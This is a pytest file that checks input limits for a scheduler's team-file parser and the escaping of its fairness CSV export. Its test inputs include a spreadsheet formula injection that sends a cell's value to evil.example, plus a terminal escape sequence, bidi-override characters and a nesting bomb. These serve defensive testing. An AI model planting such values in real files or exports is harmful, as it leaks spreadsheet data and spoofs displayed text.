"""Bounded inputs: an org file beyond the limits of docs/org-file.md#limits fails with the
usual file, key path and line, and never with a traceback, an overflow or a huge allocation."""

from __future__ import annotations

from pathlib import Path

import pytest

from scheduler.domain.fairness import fairness_report
from scheduler.domain.orgfile import OrgFileError, parse_org
from scheduler.domain.points import DayCalendar
from scheduler.domain.reports import fairness_frame, inert
from scheduler.domain.shifts import make_problem

TEAM = (Path(__file__).resolve().parents[2] / "data" / "team.yaml").read_text(encoding="utf-8")


def error(text: str) -> OrgFileError:
    """Parse `text` and return the error it must raise."""
    with pytest.raises(OrgFileError) as raised:
        parse_org(text, "org.yaml")
    return raised.value


def changed(old: str, new: str) -> str:
    """Return the team file with one piece replaced (which must be there)."""
    assert old in TEAM, old
    return TEAM.replace(old, new, 1)


def test_the_sample_is_within_the_limits() -> None:
    assert parse_org(TEAM, "org.yaml").teams[0].id == "checkout"


@pytest.mark.parametrize(
    ("old", "new", "key_path", "says"),
    [
        ("start: 2027-02-08", "start: 0001-02-08", "leave[1].start", "outside the supported years"),
        ("end: 2027-02-19", "end: 9999-12-31", "leave[1].end", "outside the supported years"),
        ("min_rest: 7d", "min_rest: 400d", "teams[0].rotation.min_rest", "longer than the 365"),
        ("min_rest: 7d", "min_rest: 99999999999d", "teams[0].rotation.min_rest", "duration"),
        ("min_roster: 6", "min_roster: " + "9" * 300, "teams[0].rotation.min_roster", "at most"),
        (
            "holidays: [US]\n",
            "holidays: [US]\nweights: {weekday: 1000000000}\n",
            "weights.weekday",
            "at most 1000",
        ),
        (
            "holidays: [US]\n",
            "holidays: [US]\nfairness: {lookback_weeks: 100000000}\n",
            "fairness.lookback_weeks",
            "at most 520",
        ),
        ("name: Ada Lovelace", "name: " + "A" * 201, "people[0].name", "at most 200"),
        ("name: Ada Lovelace", 'name: "Ada\\0Lovelace"', "people[0].name", "U+0000"),
        ("name: Ada Lovelace", 'name: "Ada\\e]0;owned\\aLovelace"', "people[0].name", "U+001B"),
        ("name: Ada Lovelace", 'name: "Ada \\u202eecalevoL"', "people[0].name", "U+202E"),
        ("name: Ada Lovelace", 'name: "Ada \\u061cLovelace"', "people[0].name", "U+061C"),
        ("name: Ada Lovelace", 'name: "Ada\\u2028Lovelace"', "people[0].name", "U+2028"),
        ("name: Ada Lovelace", 'name: "Ada\\u2029Lovelace"', "people[0].name", "U+2029"),
        ("id: ada,", "id: " + "a" * 65 + ",", "people[0].id", "at most 64"),
    ],
)
def test_values_beyond_the_limits_name_where(old, new, key_path, says) -> None:
    err = error(changed(old, new))
    assert err.key_path == key_path
    assert says in err.message
    assert err.line is not None


def test_deep_nesting_fails_cleanly_instead_of_recursing() -> None:
    err = error("org: x\nnested: " + "[" * 5000 + "]" * 5000 + "\n")
    assert "nested more than" in err.message
    assert err.line == 2


def test_a_huge_file_is_refused_before_reading_it() -> None:
    err = error(TEAM + "#" + "x" * 5_000_000 + "\n")
    assert "over 5,000,000 characters" in err.message


def test_a_name_that_is_a_formula_stays_text_in_fairness_csv() -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    org = parse_org(changed("name: Ada Lovelace", f"name: '{formula}'"), "org.yaml")
    problem = make_problem(org, org.history[0].shift.end.date(), 1)
    report = fairness_report(problem, [], DayCalendar(org))
    names = fairness_frame(org, report)["name"].tolist()
    assert "'" + formula in names and formula not in names
    assert [inert(s) for s in ("+1", "-1", "@x", "ok")] == ["'+1", "'-1", "'@x", "ok"]
